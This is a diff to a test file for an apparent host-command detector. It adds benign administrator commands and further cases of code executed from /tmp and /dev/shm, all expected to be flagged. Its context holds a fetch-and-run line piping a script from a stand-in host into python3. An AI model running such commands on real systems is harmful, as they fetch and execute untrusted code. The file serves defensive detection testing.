@@ -107,6 +107,8 @@ def test_commands_of_administrators_are_no_finding() -> None:
     for command in (
         "/usr/bin/find /tmp -type f -mtime +7 -delete",
         "rm -rf /tmp/cache",
+        "sudo -n rm -rf /tmp/cache",
+        "cd /tmp && tar xzf a.tgz && cd /srv && ./install",
         "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
         "curl -fsS https://hc.example/ping -o /dev/null",
         "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
@@ -124,6 +126,10 @@ def test_commands_of_administrators_are_no_finding() -> None:
     [
         ("[ -x /tmp/a ] && /tmp/a", "host.command-temp"),
         ("bash /var/tmp/.u/run.sh", "host.command-temp"),
+        ("cd /tmp && chmod +x a && ./a", "host.command-temp"),
+        ("/usr/bin/env LANG=C /tmp/a", "host.command-temp"),
+        ("sudo -u www-data nice -n 10 /dev/shm/a", "host.command-temp"),
+        ("bash -c '/tmp/a --b'", "host.command-temp"),
         ("FOO=1 nohup /dev/shm/k &", "host.command-temp"),
         ("C:\\Users\\lan\\AppData\\Local\\Temp\\u.exe", "host.command-temp"),
         ("wget -qO- http://x.example/i.py | python3 -", "host.command-download-run"),
